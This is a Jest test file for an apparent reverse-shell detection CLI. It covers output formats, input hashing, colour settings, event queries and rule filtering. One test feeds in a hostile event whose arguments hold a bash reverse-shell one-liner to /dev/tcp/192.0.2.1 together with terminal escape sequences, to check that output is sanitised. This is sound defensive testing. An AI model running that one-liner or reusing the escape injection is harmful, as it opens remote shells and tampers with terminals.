import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, test } from '@jest/globals';
import { ndjson, runCli, SAMPLES } from '../support/cli.js';
import { validatorOf } from '../support/schemas.js';

const folder = mkdtempSync(path.join(tmpdir(), 'rshell-scan-'));
afterAll(() => {
  rmSync(folder, { recursive: true });
});

const attack = path.join(SAMPLES, 'attack.ndjson');

describe('outputs', () => {
  test('several at once: text on stdout, NDJSON and JSON in files, all of the same alerts', async () => {
    const lines = path.join(folder, 'alerts.ndjson');
    const report = path.join(folder, 'report.json');
    const { stdout } = await runCli([attack, '-o', `ndjson=${lines}`, '-o', `json=${report}`]);
    const alerts = ndjson(readFileSync(lines, 'utf8'));
    const whole = JSON.parse(readFileSync(report, 'utf8')) as { alerts: unknown[] };
    expect(alerts).toHaveLength(3);
    expect(whole.alerts).toEqual(alerts);
    for (const { rule } of alerts) expect(stdout).toContain((rule as { name: string }).name);
  });

  test('NDJSON and JSON fit the published schemas', async () => {
    const isReport = validatorOf('report');
    const { stdout } = await runCli([SAMPLES, '-o', 'json']);
    isReport(JSON.parse(stdout));
    expect(isReport.errors ?? []).toEqual([]);
  });

  test('--hash-inputs: the SHA-256 of what was read, in the summary and the report, from a file and a pipe', async () => {
    const bytes = readFileSync(attack);
    const digest = createHash('sha256').update(bytes).digest('hex');
    const isReport = validatorOf('report', { closed: true });
    const args = ['-o', 'json', '--hash-inputs'];
    const runs = [await runCli([attack, ...args]), await runCli(['-', ...args], { stdin: bytes })];
    for (const { stdout, stderr } of runs) {
      const report = JSON.parse(stdout) as { summary: { inputs: readonly object[] } };
      isReport(report);
      expect(isReport.errors ?? []).toEqual([]);
      expect(report.summary.inputs).toMatchObject([{ bytes: bytes.length, sha256: digest }]);
      expect(stderr.replaceAll(/\s+/g, ' ')).toContain(`SHA-256 ${digest}`);
    }
    const { stdout, stderr } = await runCli([attack, '-o', 'json']);
    expect([stdout, stderr].join()).not.toContain(digest);
    expect(stdout).toContain('"sha256":null');
    const page = path.join(folder, 'report.html');
    await runCli([attack, '-o', `html=${page}`]);
    expect(readFileSync(page, 'utf8')).toContain(`"sha256":"${digest}"`);
    const live = await runCli([attack, '--follow', '--hash-inputs']);
    expect([live.code, live.stderr]).toEqual([2, expect.stringContaining('RS402')]);
  });

  test('stdout has results only; everything else is on stderr', async () => {
    const { stdout, stderr } = await runCli([attack, '--json']);
    expect(ndjson(stdout)).toHaveLength(3);
    expect(stderr).toContain('3 alerts');
    const quiet = await runCli([attack, '--json', '-q']);
    expect(quiet.stderr).toBe('');
  });

  test('piped text has no colour, and --color always has', async () => {
    const plain = await runCli([attack]);
    expect(plain.stdout).not.toMatch(/\u001b/);
    const coloured = await runCli([attack, '--color', 'always']);
    expect(coloured.stdout).toMatch(/\u001b\[1m/);
  });

  test.each([
    [{ FORCE_COLOR: '1' }, true],
    [{ CLICOLOR_FORCE: '1' }, true],
    [{ FORCE_COLOR: '1', NO_COLOR: '1' }, false],
    [{ FORCE_COLOR: '0' }, false],
    [{ NO_COLOR: '' }, false],
  ])('environment %j: colour %s', async (env, expected) => {
    const { stdout } = await runCli([attack], { env });
    expect(stdout.includes('\u001b[')).toBe(expected);
  });

  test('two runs over the same input print the same bytes', async () => {
    const [a, b] = await Promise.all([runCli([SAMPLES]), runCli([SAMPLES])]);
    expect(a.stdout).toBe(b.stdout);
  });

  test('hostile text in an event cannot move the cursor', async () => {
    const event = {
      '@timestamp': '2026-01-01T00:00:00Z',
      event: { category: ['process'], type: ['start'], action: 'exec' },
      host: { id: 'h', name: 'evil\u001b[2Jhost', os: { type: 'linux' } },
      process: {
        name: 'setsid',
        args: ['setsid', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1\u001b]0;owned\u0007\u202e'],
        parent: { name: 'sh' },
      },
    };
    const { stdout, code } = await runCli(['-'], { stdin: `${JSON.stringify(event)}\n` });
    expect(code).toBe(1);
    expect(stdout).not.toMatch(/[\u001b\u0007\u202e]/);
    expect(stdout).toContain('evil\\x1b[2Jhost');
  });
});

describe('query', () => {
  test('prints the events of an event query as they are', async () => {
    const { stdout } = await runCli(['query', 'network where true | head 2', attack]);
    const events = ndjson(stdout);
    expect(events).toHaveLength(2);
    expect(events[0]).toHaveProperty(['@timestamp']);
  });

  test('prints sequences with their join keys', async () => {
    const { stdout } = await runCli([
      'query',
      'sequence by host.id, process.pid [process where true] [network where true]',
      attack,
    ]);
    const [first] = ndjson(stdout) as { join_keys: unknown[]; events: unknown[] }[];
    expect(first?.join_keys).toHaveLength(2);
    expect(first?.events).toHaveLength(2);
  });

  test('--size keeps the last matches', async () => {
    const all = ndjson((await runCli(['query', 'any where true', attack])).stdout);
    const last = ndjson((await runCli(['query', 'any where true', attack, '--size', '3'])).stdout);
    expect(last).toEqual(all.slice(-3));
  });

  test('--event-category-field, --timestamp-field and --tiebreaker-field name other fields', async () => {
    const stdin = ['b', 'a', 'c']
      .map((id, n) =>
        JSON.stringify({ kind: 'k', when: 1000 - (id === 'c' ? 0 : 5), seq: 3 - n, id }),
      )
      .join('\n');
    const { stdout } = await runCli(
      [
        ...['query', 'sequence [k where true] [k where true] | head 2', '-'],
        ...['--event-category-field', 'kind', '--timestamp-field', 'when'],
        ...['--tiebreaker-field', 'seq'],
      ],
      { stdin },
    );
    const ids = (ndjson(stdout) as { events: { id: string }[] }[]).map(({ events }) =>
      events.map(({ id }) => id),
    );
    expect(ids).toEqual([
      ['a', 'b'],
      ['b', 'c'],
    ]);
  });

  test('a mistake is shown under a caret', async () => {
    const { stderr } = await runCli(['query', 'process where proces.name == "x" and', attack]);
    expect(stderr).toMatch(/<query>:1:\d+/);
    expect(stderr).toContain('^');
  });
});

describe('rules', () => {
  test('lists the bundled rules with their state', async () => {
    const { stdout, stderr } = await runCli(['rules', 'list', '--json']);
    const states = ndjson(stdout).map(({ state }) => state);
    expect(states.filter((state) => state === 'evaluable')).toHaveLength(21);
    expect(states.filter((state) => state === 'deprecated')).toHaveLength(1);
    expect(stderr).toBe('');
  });

  test('shows one by the first digits of its id', async () => {
    const { stdout } = await runCli(['rules', 'show', '5c895b4f']);
    expect(stdout).toContain('Potential Meterpreter Reverse Shell');
    expect(stdout).toContain('TA0002 Execution > T1059');
    expect(stdout).toContain('sample by host.id, process.pid, user.id');
  });

  test.each([
    [['--technique', 'T1059'], 21],
    [['--technique', 'T1059.004'], 18],
    [['--tactic', 'execution'], 21],
    [['--tag', 'Data Source: Auditd Manager'], 19],
    [['--maturity', 'deprecated'], 1],
    [['--rule', '*udp*'], 1],
    [['--exclude-rule', '*udp*'], 21],
    [['--min-severity', 'medium'], 21],
  ])('selection %j leaves %i', async (args, expected) => {
    const { stdout } = await runCli(['rules', '--json', ...args]);
    expect(ndjson(stdout).filter(({ reason }) => reason === null)).toHaveLength(expected);
  });
});
